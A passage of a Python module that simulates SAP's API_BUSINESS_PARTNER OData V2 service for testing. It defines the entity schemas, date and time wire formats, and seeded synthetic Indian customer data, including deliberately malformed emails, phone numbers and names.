"""SAP S/4HANA sandbox: a faithful simulator of the ``API_BUSINESS_PARTNER`` OData V2 service.

What it serves (all under ``/sap/opu/odata/sap/API_BUSINESS_PARTNER/``):

* ``A_BusinessPartner`` with ``to_Customer``, ``to_BusinessPartnerTax`` and
  ``to_BusinessPartnerAddress`` (and below it ``to_EmailAddress``, ``to_PhoneNumber``,
  ``to_MobilePhoneNumber``), plus the entity sets ``A_Customer``, ``A_BusinessPartnerAddress``,
  ``A_BusinessPartnerTaxNumber``, ``A_AddressEmailAddress``, ``A_AddressPhoneNumber``.
* ``$metadata`` (EDMX, ``DataServiceVersion="2.0"``) and the service document.
* Query options ``$filter $select $expand $orderby $top $skip $skiptoken $inlinecount $format``,
  server-driven paging with ``__next``, ``/$count``.
* Basic auth, OAuth2 client credentials (``POST /sap/bc/sec/oauth2/token``), the CSRF token
  protocol, and ``PATCH``/``MERGE`` with ``If-Match`` on ``A_BusinessPartner``.

The data is a deterministic (by ``seed``) Indian building-materials customer base with a few
percent of deliberately dirty records; see :attr:`SapSandbox.dirty_ids`. Everything is JSON
only: requests that do not ask for JSON get ``406`` (see ``docs/sandbox-sap.md``).
"""

from __future__ import annotations

import argparse
import base64
import gc
import hashlib
import hmac
import json
import logging
import operator
import os
import random
import re
import secrets
import sys
import time
import uuid
from bisect import bisect_right
from collections import OrderedDict
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from operator import itemgetter
from typing import Any, Final
from urllib.parse import parse_qsl, quote
from xml.sax.saxutils import escape as xml_escape
from xml.sax.saxutils import quoteattr

from sandbox.core import (
    FaultSwitches,
    SandboxRequest,
    SandboxResponse,
    Simulator,
    control_json_body,
    parse_fault_assignments,
    serve,
)

try:
    import orjson

    def _dumps(payload: Any) -> bytes:
        return orjson.dumps(payload)

except ImportError:  # pragma: no cover - orjson ships with Prefect; plain json is the fallback

    def _dumps(payload: Any) -> bytes:
        return json.dumps(payload, ensure_ascii=False, separators=(",", ":")).encode()


logger = logging.getLogger(__name__)

SERVICE_NAME: Final = "API_BUSINESS_PARTNER"
SERVICE_ROOT: Final = "/sap/opu/odata/sap/API_BUSINESS_PARTNER/"
TOKEN_PATH: Final = "/sap/bc/sec/oauth2/token"
NAMESPACE: Final = "API_BUSINESS_PARTNER"
#: Generated change dates lie in the three years before this fixed day, so data is reproducible.
ANCHOR_DATE: Final = date(2026, 6, 30)
#: First BusinessPartner number; ids are 10-digit strings counting up from here.
FIRST_PARTNER_NUMBER: Final = 1_000_000_001
_BLOCK: Final = 1024  # partners are generated in independent blocks: id i never depends on the total

_REALM = 'Basic realm="SAP NetWeaver Application Server"'
_JSON_CT = "application/json; charset=utf-8"
_XML_CT = "application/xml; charset=utf-8"

# ============================================================================================
# EDM schema (names and types follow SAP's published EDMX for API_BUSINESS_PARTNER)
# ============================================================================================


@dataclass(frozen=True)
class Prop:
    """One EDM property."""

    name: str
    edm: str = "Edm.String"
    max_length: int | None = None
    nullable: bool = True
    updatable: bool = True
    date_only: bool = False


@dataclass(frozen=True)
class Nav:
    """One navigation property; ``target`` is an entity set name."""

    name: str
    target: str
    many: bool


@dataclass
class EntityType:
    """An entity type together with the entity set that serves it."""

    name: str
    set_name: str
    props: tuple[Prop, ...]
    keys: tuple[str, ...]
    navs: tuple[Nav, ...] = ()
    has_etag: bool = False
    index: dict[str, int] = field(init=False)
    prop: dict[str, Prop] = field(init=False)
    nav: dict[str, Nav] = field(init=False)
    names: tuple[str, ...] = field(init=False)

    def __post_init__(self) -> None:
        self.index = {p.name: i for i, p in enumerate(self.props)}
        self.prop = {p.name: p for p in self.props}
        self.nav = {n.name: n for n in self.navs}
        self.names = tuple(p.name for p in self.props)

    @property
    def qualified(self) -> str:
        """Namespace-qualified type name used in ``__metadata.type``."""
        return f"{NAMESPACE}.{self.name}"


def _s(name: str, length: int, *, key: bool = False, ro: bool = False) -> Prop:
    return Prop(name, "Edm.String", length, nullable=not key, updatable=not (ro or key))


def _b(name: str, *, ro: bool = False) -> Prop:
    return Prop(name, "Edm.Boolean", updatable=not ro)


def _d(name: str, *, ro: bool = False) -> Prop:
    return Prop(name, "Edm.DateTime", updatable=not ro, date_only=True)


def _t(name: str, *, ro: bool = False) -> Prop:
    return Prop(name, "Edm.Time", updatable=not ro)


def _dto(name: str, *, ro: bool = False) -> Prop:
    return Prop(name, "Edm.DateTimeOffset", updatable=not ro)


def _g(name: str, *, ro: bool = False) -> Prop:
    return Prop(name, "Edm.Guid", updatable=not ro)


BP_TYPE = EntityType(
    "A_BusinessPartnerType",
    "A_BusinessPartner",
    (
        _s("BusinessPartner", 10, key=True),
        _s("Customer", 10, ro=True),
        _s("Supplier", 10, ro=True),
        _s("AcademicTitle", 4),
        _s("AuthorizationGroup", 4),
        _s("BusinessPartnerCategory", 1, ro=True),
        _s("BusinessPartnerFullName", 81, ro=True),
        _s("BusinessPartnerGrouping", 4, ro=True),
        _s("BusinessPartnerName", 81, ro=True),
        _g("BusinessPartnerUUID", ro=True),
        _s("CorrespondenceLanguage", 2),
        _s("CreatedByUser", 12, ro=True),
        _d("CreationDate", ro=True),
        _t("CreationTime", ro=True),
        _s("FirstName", 40),
        _s("FormOfAddress", 4),
        _s("Industry", 10),
        _s("InternationalLocationNumber1", 7),
        _s("InternationalLocationNumber2", 5),
        _b("IsFemale"),
        _b("IsMale"),
        _s("IsNaturalPerson", 1),
        _b("IsSexUnknown"),
        _s("GenderCodeName", 1),
        _s("Language", 2),
        _d("LastChangeDate", ro=True),
        _t("LastChangeTime", ro=True),
        _s("LastChangedByUser", 12, ro=True),
        _s("LastName", 40),
        _s("LegalForm", 2),
        _s("OrganizationBPName1", 40),
        _s("OrganizationBPName2", 40),
        _s("OrganizationBPName3", 40),
        _s("OrganizationBPName4", 40),
        _d("OrganizationFoundationDate"),
        _d("OrganizationLiquidationDate"),
        _s("SearchTerm1", 20),
        _s("SearchTerm2", 20),
        _s("AdditionalLastName", 40),
        _d("BirthDate"),
        _s("BusinessPartnerBirthDateStatus", 1),
        _s("BusinessPartnerBirthplaceName", 40),
        _d("BusinessPartnerDeathDate"),
        _b("BusinessPartnerIsBlocked"),
        _s("BusinessPartnerType", 4),
        _s("ETag", 26, ro=True),
        _s("GroupBusinessPartnerName1", 40),
        _s("GroupBusinessPartnerName2", 40),
        _s("IndependentAddressID", 10, ro=True),
        _s("InternationalLocationNumber3", 1),
        _s("MiddleName", 40),
        _s("NameCountry", 3),
        _s("NameFormat", 2),
        _s("PersonFullName", 80),
        _s("PersonNumber", 10, ro=True),
        _b("IsMarkedForArchiving"),
        _s("BusinessPartnerIDByExtSystem", 20),
        _s("BusinessPartnerPrintFormat", 1),
        _s("BusinessPartnerOccupation", 4),
        _s("BusPartMaritalStatus", 1),
        _s("BusPartNationality", 3),
        _s("BusinessPartnerBirthName", 40),
        _s("BusinessPartnerSupplementName", 4),
        _s("NaturalPersonEmployerName", 35),
        _s("LastNamePrefix", 4),
        _s("LastNameSecondPrefix", 4),
        _s("Initials", 10),
        _b("BPDataControllerIsNotRequired"),
        _s("TradingPartner", 6),
    ),
    ("BusinessPartner",),
    (
        Nav("to_BusinessPartnerAddress", "A_BusinessPartnerAddress", True),
        Nav("to_BusinessPartnerTax", "A_BusinessPartnerTaxNumber", True),
        Nav("to_Customer", "A_Customer", False),
    ),
    has_etag=True,
)

CUSTOMER_TYPE = EntityType(
    "A_CustomerType",
    "A_Customer",
    (
        _s("Customer", 10, key=True),
        _s("AuthorizationGroup", 4),
        _s("BillingIsBlockedForCustomer", 2),
        _s("CreatedByUser", 12, ro=True),
        _d("CreationDate", ro=True),
        _s("CustomerAccountGroup", 4),
        _s("CustomerClassification", 2),
        _s("CustomerFullName", 220, ro=True),
        _s("BPCustomerFullName", 220, ro=True),
        _s("CustomerName", 80, ro=True),
        _s("BPCustomerName", 81, ro=True),
        _s("DeliveryIsBlocked", 2),
        *(_s(f"FreeDefinedAttribute{n:02d}", 2 if n <= 5 else 3) for n in range(1, 11)),
        _s("NFPartnerIsNaturalPerson", 1, ro=True),
        _s("OrderIsBlockedForCustomer", 2),
        _b("PostingIsBlocked"),
        _s("Supplier", 10),
        _s("CustomerCorporateGroup", 10),
        _s("FiscalAddress", 10),
        _s("Industry", 4, ro=True),
        *(_s(f"IndustryCode{n}", 10) for n in range(1, 6)),
        _s("InternationalLocationNumber1", 7, ro=True),
        _s("InternationalLocationNumber2", 5, ro=True),
        _s("InternationalLocationNumber3", 1, ro=True),
        _s("NielsenRegion", 2),
        _s("PaymentReason", 4),
        _s("ResponsibleType", 2),
        _s("TaxNumber1", 16, ro=True),
        _s("TaxNumber2", 11, ro=True),
        _s("TaxNumber3", 18, ro=True),
        _s("TaxNumber4", 18, ro=True),
        _s("TaxNumber5", 60, ro=True),
        _s("TaxNumberType", 2),
        _s("VATRegistration", 20, ro=True),
        _b("DeletionIndicator"),
        _s("ExpressTrainStationName", 25),
        _s("TrainStationName", 25),
        _s("CityCode", 4),
        _s("County", 3),
    ),
    ("Customer",),
)

ADDRESS_TYPE = EntityType(
    "A_BusinessPartnerAddressType",
    "A_BusinessPartnerAddress",
    (
        _s("BusinessPartner", 10, key=True),
        _s("AddressID", 10, key=True),
        _dto("ValidityStartDate"),
        _dto("ValidityEndDate"),
        _s("AuthorizationGroup", 4),
        _g("AddressUUID", ro=True),
        _s("AdditionalStreetPrefixName", 40),
        _s("AdditionalStreetSuffixName", 40),
        _s("AddressTimeZone", 6),
        _s("CareOfName", 40),
        _s("CityCode", 12),
        _s("CityName", 40),
        _s("CompanyPostalCode", 10),
        _s("Country", 3),
        _s("County", 40),
        _s("DeliveryServiceNumber", 10),
        _s("DeliveryServiceTypeCode", 4),
        _s("District", 40),
        _s("FormOfAddress", 4, ro=True),
        _s("FullName", 80, ro=True),
        _s("HomeCityName", 40),
        _s("HouseNumber", 10),
        _s("HouseNumberSupplementText", 10),
        _s("Language", 2),
        _s("POBox", 10),
        _s("POBoxDeviatingCityName", 40),
        _s("POBoxDeviatingCountry", 3),
        _s("POBoxDeviatingRegion", 3),
        _b("POBoxIsWithoutNumber"),
        _s("POBoxLobbyName", 40),
        _s("POBoxPostalCode", 10),
        _s("Person", 10, ro=True),
        _s("PostalCode", 10),
        _s("PrfrdCommMediumType", 3),
        _s("Region", 3),
        _s("StreetName", 60),
        _s("StreetPrefixName", 40),
        _s("StreetSuffixName", 40),
        _s("TaxJurisdiction", 15),
        _s("TransportZone", 10),
        _s("AddressIDByExternalSystem", 20),
        _s("CountyCode", 8),
        _s("TownshipCode", 8),
        _s("TownshipName", 40),
    ),
    ("BusinessPartner", "AddressID"),
    (
        Nav("to_EmailAddress", "A_AddressEmailAddress", True),
        Nav("to_MobilePhoneNumber", "A_AddressPhoneNumber", True),
        Nav("to_PhoneNumber", "A_AddressPhoneNumber", True),
    ),
)

TAX_TYPE = EntityType(
    "A_BusinessPartnerTaxNumberType",
    "A_BusinessPartnerTaxNumber",
    (
        _s("BusinessPartner", 10, key=True),
        _s("BPTaxType", 4, key=True),
        _s("BPTaxNumber", 20),
        _s("BPTaxLongNumber", 60),
        _s("AuthorizationGroup", 4),
    ),
    ("BusinessPartner", "BPTaxType"),
)

EMAIL_TYPE = EntityType(
    "A_AddressEmailAddressType",
    "A_AddressEmailAddress",
    (
        _s("AddressID", 10, key=True),
        _s("Person", 10, key=True),
        _s("OrdinalNumber", 3, key=True),
        _b("IsDefaultEmailAddress"),
        _s("EmailAddress", 241),
        _s("SearchEmailAddress", 20, ro=True),
        _s("AddressCommunicationRemarkText", 50),
    ),
    ("AddressID", "Person", "OrdinalNumber"),
)

PHONE_TYPE = EntityType(
    "A_AddressPhoneNumberType",
    "A_AddressPhoneNumber",
    (
        _s("AddressID", 10, key=True),
        _s("Person", 10, key=True),
        _s("OrdinalNumber", 3, key=True),
        _s("DestinationLocationCountry", 3),
        _b("IsDefaultPhoneNumber"),
        _s("PhoneNumber", 30),
        _s("PhoneNumberExtension", 10),
        _s("InternationalPhoneNumber", 30, ro=True),
        _s("PhoneNumberType", 1),
        _s("AddressCommunicationRemarkText", 50),
    ),
    ("AddressID", "Person", "OrdinalNumber"),
)

ENTITY_TYPES: Final[tuple[EntityType, ...]] = (
    EMAIL_TYPE,
    PHONE_TYPE,
    BP_TYPE,
    ADDRESS_TYPE,
    TAX_TYPE,
    CUSTOMER_TYPE,
)
TYPES_BY_SET: Final[dict[str, EntityType]] = {t.set_name: t for t in ENTITY_TYPES}

# ============================================================================================
# Wire formats (OData V2 verbose JSON)
# ============================================================================================

_EPOCH_ORDINAL = date(1970, 1, 1).toordinal()
_MS_PER_DAY = 86_400_000
_date_cache: dict[int, str] = {}
_dto_cache: dict[int, str] = {}
_time_cache: dict[int, str] = {}
#: Validity end SAP uses for open-ended addresses (9999-12-31T23:59:59Z).
_OPEN_END_DTO = "/Date(253402300799000+0000)/"


def wire_day(ordinal: int) -> str:
    """Edm.DateTime for a day given as ``date.toordinal()``: ``/Date(<ms at midnight UTC>)/``."""
    text = _date_cache.get(ordinal)
    if text is None:
        text = _date_cache[ordinal] = f"/Date({(ordinal - _EPOCH_ORDINAL) * _MS_PER_DAY})/"
    return text


def wire_dto_day(ordinal: int) -> str:
    """Edm.DateTimeOffset at midnight UTC of a day ordinal: ``/Date(<ms>+0000)/``."""
    text = _dto_cache.get(ordinal)
    if text is None:
        text = _dto_cache[ordinal] = f"/Date({(ordinal - _EPOCH_ORDINAL) * _MS_PER_DAY}+0000)/"
    return text


def wire_date(d: date) -> str:
    """Edm.DateTime for a calendar day: ``/Date(<ms at midnight UTC>)/``."""
    return wire_day(d.toordinal())


def wire_time(seconds: int) -> str:
    """Edm.Time as an ISO-8601 duration: ``PT14H30M05S``."""
    text = _time_cache.get(seconds)
    if text is None:
        h, rest = divmod(seconds, 3600)
        text = _time_cache[seconds] = f"PT{h:02d}H{rest // 60:02d}M{rest % 60:02d}S"
    return text


def parse_wire_datetime(text: str) -> int:
    """Milliseconds since the epoch from ``/Date(ms)/`` or ``/Date(ms+0000)/``."""
    inner = text[6 : text.index(")")]
    for sign in ("+", "-"):
        pos = inner.find(sign, 1)
        if pos > 0:
            offset = int(inner[pos + 1 : pos + 3]) * 60 + int(inner[pos + 3 : pos + 5])
            ms = int(inner[:pos])
            return ms - offset * 60_000 if sign == "+" else ms + offset * 60_000
    return int(inner)


def parse_wire_time(text: str) -> int:
    """Seconds of the day from an Edm.Time duration such as ``PT14H30M05S``."""
    match = _DURATION_RE.fullmatch(text)
    if not match:
        raise ValueError(f"not an Edm.Time value: {text!r}")
    h, m, s = (int(float(g)) if g else 0 for g in match.groups())
    return h * 3600 + m * 60 + s


_DURATION_RE = re.compile(r"PT(?:(\d+)H)?(?:(\d+)M)?(?:(\d+(?:\.\d+)?)S)?")


def _ms_of(dt: datetime) -> int:
    return int(dt.timestamp() * 1000)


def _etag_header(etag_value: str) -> str:
    return f"W/\"'{etag_value}'\""


def _make_etag(stamp: datetime, revision: int) -> str:
    # 26 characters at most, like SAP's ETag property: change timestamp + revision counter.
    return f"{stamp:%Y%m%d%H%M%S}{revision:07d}"


# ============================================================================================
# Deterministic data: an Indian building-materials customer base
# ============================================================================================

# region, GST state code, weight, Hindi-belt (CorrespondenceLanguage HI likely), surnames, cities
# city = (name, first three PIN digits, STD code, localities)
_STATES: Final[
    tuple[tuple[str, str, int, bool, tuple[str, ...], tuple[tuple[str, str, str, tuple[str, ...]], ...]], ...]
] = (
    (
        "MH",
        "27",
        18,
        False,
        (
            "Patil",
            "Deshmukh",
            "Jadhav",
            "Kulkarni",
            "Shinde",
            "Pawar",
            "Joshi",
            "Gaikwad",
            "More",
            "Chavan",
            "Kale",
            "Bhosale",
        ),
        (
            ("Mumbai", "400", "22", ("Andheri East", "Kurla West", "Bhandup", "Goregaon", "Malad", "Chembur")),
            ("Pune", "411", "20", ("Hadapsar", "Pimpri", "Chakan", "Wakad", "Kothrud", "Bhosari MIDC")),
            ("Nagpur", "440", "712", ("Sitabuldi", "Hingna MIDC", "Wardhaman Nagar")),
            ("Nashik", "422", "253", ("Satpur MIDC", "Ambad", "Panchavati")),
            ("Thane", "400", "22", ("Wagle Estate", "Kolshet", "Majiwada")),
            ("Aurangabad", "431", "240", ("Waluj MIDC", "Chikalthana", "CIDCO")),
            ("Kolhapur", "416", "231", ("Shiroli MIDC", "Rajarampuri")),
        ),
    ),
    (
        "KA",
        "29",
        12,
        False,
        ("Gowda", "Shetty", "Hegde", "Rao", "Naik", "Kamath", "Patil", "Reddy", "Bhat", "Kulkarni"),
        (
            ("Bengaluru", "560", "80", ("Peenya", "Whitefield", "Yeshwanthpur", "Electronic City", "Hebbal")),
            ("Mysuru", "570", "821", ("Hebbal Industrial Area", "Vijayanagar")),
            ("Hubballi", "580", "836", ("Gokul Road", "Tarihal")),
            ("Mangaluru", "575", "824", ("Baikampady", "Kankanady")),
            ("Belagavi", "590", "831", ("Udyambag", "Tilakwadi")),
        ),
    ),
    (
        "TN",
        "33",
        11,
        False,
        ("Iyer", "Pillai", "Murugan", "Subramanian", "Krishnan", "Raman", "Natarajan", "Chettiar", "Gounder", "Selvam"),
        (
            ("Chennai", "600", "44", ("Ambattur", "Guindy", "Porur", "Perungudi", "Tambaram")),
            ("Coimbatore", "641", "422", ("Peelamedu", "Ganapathy", "Kurichi")),
            ("Madurai", "625", "452", ("Kappalur", "Anna Nagar")),
            ("Tiruchirappalli", "620", "431", ("Thuvakudi", "Srirangam")),
            ("Salem", "636", "427", ("Suramangalam", "Hasthampatti")),
        ),
    ),
    (
        "GJ",
        "24",
        10,
        False,
        ("Patel", "Shah", "Desai", "Mehta", "Parikh", "Trivedi", "Chauhan", "Solanki", "Joshi", "Modi"),
        (
            ("Ahmedabad", "380", "79", ("Naroda GIDC", "Vatva GIDC", "Navrangpura", "Sanand")),
            ("Surat", "395", "261", ("Sachin GIDC", "Udhna", "Adajan")),
            ("Vadodara", "390", "265", ("Makarpura GIDC", "Alkapuri")),
            ("Rajkot", "360", "281", ("Aji GIDC", "Shapar")),
        ),
    ),
    (
        "DL",
        "07",
        5,
        True,
        ("Sharma", "Gupta", "Aggarwal", "Khanna", "Malhotra", "Arora", "Kapoor", "Bansal"),
        (("New Delhi", "110", "11", ("Okhla Phase II", "Naraina", "Mundka", "Kirti Nagar", "Bawana")),),
    ),
    (
        "UP",
        "09",
        9,
        True,
        ("Verma", "Yadav", "Srivastava", "Mishra", "Tiwari", "Singh", "Gupta", "Pandey", "Shukla", "Maurya"),
        (
            ("Lucknow", "226", "522", ("Aminabad", "Chinhat", "Gomti Nagar")),
            ("Noida", "201", "120", ("Sector 63", "Sector 80", "Phase II")),
            ("Ghaziabad", "201", "120", ("Sahibabad", "Loni")),
            ("Kanpur", "208", "512", ("Panki", "Dada Nagar")),
            ("Varanasi", "221", "542", ("Lahartara", "Sigra")),
            ("Agra", "282", "562", ("Sikandra", "Foundry Nagar")),
        ),
    ),
    (
        "RJ",
        "08",
        6,
        True,
        ("Meena", "Rathore", "Choudhary", "Jain", "Agarwal", "Sharma", "Shekhawat"),
        (
            ("Jaipur", "302", "141", ("Sitapura", "VKI Area", "Malviya Nagar")),
            ("Jodhpur", "342", "291", ("Basni", "Boranada")),
            ("Udaipur", "313", "294", ("Madri", "Sukher")),
            ("Kota", "324", "744", ("Indraprastha", "Talwandi")),
        ),
    ),
    (
        "WB",
        "19",
        5,
        False,
        ("Das", "Ghosh", "Banerjee", "Mukherjee", "Chatterjee", "Sen", "Bose", "Saha"),
        (
            ("Kolkata", "700", "33", ("Salt Lake", "Tiljala", "Behala", "Dum Dum")),
            ("Howrah", "711", "33", ("Liluah", "Bally")),
            ("Siliguri", "734", "353", ("Sevoke Road", "Matigara")),
            ("Durgapur", "713", "343", ("Bidhannagar", "Benachity")),
        ),
    ),
    (
        "TG",
        "36",
        6,
        False,
        ("Reddy", "Rao", "Goud", "Yadav", "Naidu", "Sharma"),
        (
            ("Hyderabad", "500", "40", ("Kukatpally", "Jeedimetla", "Uppal", "Gachibowli", "Balanagar")),
            ("Warangal", "506", "870", ("Hanamkonda", "Kazipet")),
        ),
    ),
    (
        "AP",
        "37",
        4,
        False,
        ("Naidu", "Reddy", "Chowdary", "Raju", "Varma", "Rao"),
        (
            ("Visakhapatnam", "530", "891", ("Gajuwaka", "Autonagar")),
            ("Vijayawada", "520", "866", ("Autonagar", "Benz Circle")),
            ("Guntur", "522", "863", ("Arundelpet", "Nallapadu")),
        ),
    ),
    (
        "KL",
        "32",
        3,
        False,
        ("Nair", "Menon", "Pillai", "Thomas", "Kurian", "Varghese", "Joseph"),
        (
            ("Kochi", "682", "484", ("Kalamassery", "Edappally", "Vyttila")),
            ("Thiruvananthapuram", "695", "471", ("Kazhakoottam", "Pappanamcode")),
            ("Kozhikode", "673", "495", ("West Hill", "Nallalam")),
        ),
    ),
    (
        "MP",
        "23",
        4,
        True,
        ("Tiwari", "Chouhan", "Dubey", "Patel", "Jain", "Soni"),
        (
            ("Indore", "452", "731", ("Sanwer Road", "Pithampur", "Vijay Nagar")),
            ("Bhopal", "462", "755", ("Govindpura", "Mandideep")),
            ("Jabalpur", "482", "761", ("Richhai", "Adhartal")),
        ),
    ),
    (
        "HR",
        "06",
        3,
        True,
        ("Yadav", "Malik", "Dahiya", "Hooda", "Saini", "Goyal"),
        (
            ("Gurugram", "122", "124", ("Udyog Vihar", "Sohna Road", "Manesar")),
            ("Faridabad", "121", "129", ("Sector 24", "Ballabgarh")),
        ),
    ),
    (
        "PB",
        "03",
        2,
        False,
        ("Singh", "Gill", "Sandhu", "Dhillon", "Grewal", "Sidhu"),
        (
            ("Ludhiana", "141", "161", ("Focal Point", "Giaspura")),
            ("Amritsar", "143", "183", ("Verka", "Majitha Road")),
            ("Jalandhar", "144", "181", ("Leather Complex", "Model Town")),
        ),
    ),
    (
        "OD",
        "21",
        2,
        False,
        ("Mohanty", "Patnaik", "Das", "Mishra", "Sahoo", "Behera"),
        (("Bhubaneswar", "751", "674", ("Mancheswar", "Patia")), ("Cuttack", "753", "671", ("Jagatpur", "Madhupatna"))),
    ),
)


# Export customers: country, cities (name, region, postal code, dialling prefix, mobile prefix, digits)
_FOREIGN: Final = (
    (
        "AE",
        (
            ("Dubai", "DU", "", "+971", "5", 9),
            ("Abu Dhabi", "AZ", "", "+971", "5", 9),
            ("Sharjah", "SH", "", "+971", "5", 9),
        ),
    ),
    ("NP", (("Kathmandu", "", "44600", "+977", "98", 10), ("Biratnagar", "", "56613", "+977", "98", 10))),
    ("BD", (("Dhaka", "", "1212", "+880", "17", 10), ("Chattogram", "", "4000", "+880", "18", 10))),
    ("LK", (("Colombo", "", "00300", "+94", "7", 9), ("Kandy", "", "20000", "+94", "7", 9))),
)

_FIRST_MALE: Final = (
    "Rajesh",
    "Suresh",
    "Ramesh",
    "Mahesh",
    "Anil",
    "Sunil",
    "Vijay",
    "Sanjay",
    "Rakesh",
    "Amit",
    "Prakash",
    "Ganesh",
    "Manoj",
    "Deepak",
    "Arvind",
    "Naveen",
    "Venkatesh",
    "Srinivas",
    "Karthik",
    "Murali",
    "Harish",
    "Dinesh",
    "Sandeep",
    "Ashok",
    "Gopal",
    "Raju",
    "Imran",
    "Salim",
    "Joseph",
    "Gurpreet",
    "Mohan",
    "Balaji",
    "Senthil",
    "Pradeep",
    "Yogesh",
    "Nitin",
    "Rahul",
    "Vikram",
)
_FIRST_FEMALE: Final = (
    "Priya",
    "Lakshmi",
    "Sunita",
    "Anita",
    "Kavita",
    "Meena",
    "Deepa",
    "Asha",
    "Rekha",
    "Pooja",
    "Shalini",
    "Divya",
    "Geeta",
    "Savitri",
    "Fatima",
    "Mary",
    "Harpreet",
    "Radha",
    "Uma",
    "Neha",
)
_AUSPICIOUS: Final = (
    "Shree Ganesh",
    "Sai",
    "Balaji",
    "Om Sai",
    "Jai Bhavani",
    "Mahalaxmi",
    "Tirupati",
    "Shree Ram",
    "Maruti",
    "Vinayaka",
    "Murugan",
    "Ayyappa",
    "Durga",
    "Annapoorna",
    "Shiv Shakti",
    "Jai Hind",
    "Shree Krishna",
    "Hanuman",
    "Siddhivinayak",
    "Jai Ambe",
    "Umiya",
    "Khodiyar",
    "Sri Venkateswara",
)
_GENERIC: Final = (
    "National",
    "Royal",
    "Supreme",
    "Apex",
    "Prime",
    "Modern",
    "Unique",
    "Perfect",
    "Sunrise",
    "Pioneer",
    "Everest",
    "Kaveri",
    "Ganga",
    "Narmada",
    "Sahyadri",
    "Vindhya",
    "Deccan",
    "Coastal",
    "Metro",
    "Star",
    "Bharat",
    "Hindustan",
    "Classic",
    "Galaxy",
    "Reliable",
    "Crystal",
    "Silver Oak",
)
_INITIALS: Final = ("R.K.", "S.S.", "M.R.", "A.P.", "K.G.", "V.K.", "J.B.", "N.S.")

# segment, weight, account group, BP industry, customer industry, name cores, legal forms
_SEGMENTS: Final = (
    (
        "dealer",
        34,
        "ZDLR",
        "BLDMAT-TRD",
        "TRAD",
        (
            "Building Materials",
            "Cement Agencies",
            "Cement Depot",
            "Traders",
            "Enterprises",
            "Distributors",
            "Sales Corporation",
            "Building Solutions",
            "Marketing",
            "Agencies",
            "Trading Co.",
        ),
        ("01", "01", "02", "03", "04"),
    ),
    (
        "hardware",
        20,
        "ZHWS",
        "HARDWARE",
        "RETL",
        (
            "Hardware",
            "Hardware & Paints",
            "Hardware Stores",
            "Sanitary & Hardware",
            "Tiles & Hardware",
            "Hardware Mart",
            "Steel & Hardware",
            "Paints & Hardware Centre",
        ),
        ("01", "01", "01", "02"),
    ),
    (
        "contractor",
        20,
        "ZCON",
        "CONSTRUCT",
        "CONS",
        (
            "Constructions",
            "Construction Co.",
            "Infra Projects",
            "Infrastructure",
            "Civil Works",
            "Engineers & Contractors",
            "Buildcon",
            "Projects",
        ),
        ("01", "02", "03", "04", "04"),
    ),
    (
        "builder",
        11,
        "ZBLD",
        "REALESTATE",
        "REAL",
        ("Developers", "Builders", "Realty", "Homes", "Estates", "Properties", "Builders & Developers"),
        ("03", "04", "04", "05"),
    ),
    (
        "rmc",
        5,
        "ZRMC",
        "RMC",
        "MANU",
        ("Ready Mix Concrete", "RMC", "Concrete Products", "Readymix", "Infra Concrete"),
        ("04", "04", "05"),
    ),
    (
        "applicator",
        6,
        "ZAPP",
        "APPLICATOR",
        "SERV",
        ("Waterproofing Solutions", "Tile Fixers", "Flooring Solutions", "Applicators", "Tiling Works", "Coatings"),
        ("01", "01", "02"),
    ),
    ("institution", 4, "ZINS", "PUBLIC", "GOVT", (), ("06",)),
)
_SEGMENT_CUM: Final = tuple(sum(s[1] for s in _SEGMENTS[: i + 1]) for i in range(len(_SEGMENTS)))
_LEGAL_SUFFIX: Final = {"01": "", "02": " & Co.", "03": " LLP", "04": " Pvt Ltd", "05": " Ltd", "06": ""}
_INSTITUTIONS: Final = (
    "{city} Municipal Corporation",
    "Public Works Department {city}",
    "{city} Smart City Ltd",
    "Military Engineer Services {city}",
    "{city} Development Authority",
    "{city} Metro Rail Corp",
)
_STREETS: Final = (
    "MG Road",
    "Station Road",
    "Nagar Road",
    "Industrial Area Phase 2",
    "Ring Road",
    "Main Road",
    "Market Yard",
    "Link Road",
    "NH 48 Service Road",
    "Gandhi Road",
    "Nehru Street",
    "Temple Road",
    "Old Bypass Road",
    "Mill Road",
    "Transport Nagar",
    "Bazaar Street",
    "Cross Road No. 4",
)
_HOUSE_PREFIX: Final = ("", "", "Plot ", "Shop ", "Gala ", "Survey No. ", "")
_USERS: Final = ("SDADMIN", "KPATIL", "RSHARMA", "AIYER", "MDM_SYNC", "CRM_BRIDGE", "SREDDY")
_FREE_MAIL: Final = ("gmail.com", "gmail.com", "gmail.com", "yahoo.co.in", "rediffmail.com", "outlook.com")
_CORP_TLD: Final = (".com", ".in", ".co.in")
_GO_LIVE: Final = date(2019, 4, 1)  # S/4 go-live: older partners came in with the migration
_FIRST_CREATION: Final = date(2012, 1, 1)
_ANCHOR_ORDINAL: Final = ANCHOR_DATE.toordinal()
_GO_LIVE_ORDINAL: Final = _GO_LIVE.toordinal()
_FIRST_CREATION_ORDINAL: Final = _FIRST_CREATION.toordinal()
_BIRTH_ORDINAL: Final = date(1960, 1, 1).toordinal()
_FOUNDATION_ORDINAL: Final = date(1975, 1, 1).toordinal()

#: Reason codes used in :attr:`SapSandbox.dirty_ids`.
DIRTY_KINDS: Final[tuple[str, ...]] = (
    "missing_name",
    "invalid_email",
    "invalid_phone",
    "unknown_country",
    "duplicate_gstin",
    "invalid_gstin",
    "non_ascii_name",
    "injection_like_name",
    "mostly_null",
    "untrimmed_name",
    "invalid_postal_code",
)
_DIRTY_WEIGHTS: Final = (12, 14, 14, 8, 10, 6, 10, 8, 5, 7, 6)
_DIRTY_RATE: Final = 0.038
_BAD_EMAILS: Final = (
    "rajesh@@mail",
    "no-email",
    "name@domain",
    "sales@.com",
    "info at shreetraders dot com",
    "NA",
    "test@test",
)
_BAD_PHONES: Final = ("12345", "+91 98-abc", "0000000000", "98765", "N/A", "+91 99999 9999 9")
_BAD_COUNTRIES: Final = ("XX", "IND", "", "In")
_NON_ASCII: Final = (
    "श्री गणेश बिल्डिंग मटेरियल्स",
    "महालक्ष्मी हार्डवेयर",
    "முருகன் கட்டுமான பொருட்கள்",
    "ஸ்ரீ விநாயகா டிரேடர்ஸ்",
    "ಶ್ರೀ ಲಕ್ಷ್ಮೀ ಹಾರ್ಡ್‌ವೇರ್",
    "Müller Baustoffe GmbH",
    "శ్రీ సాయి సిమెంట్ ఏజెన్సీస్",
    "Société Générale de Construction",
    "Ångström Tiles & Décor",
    "Çelik Yapı Malzemeleri",  # noqa: RUF001 - deliberately non-ASCII
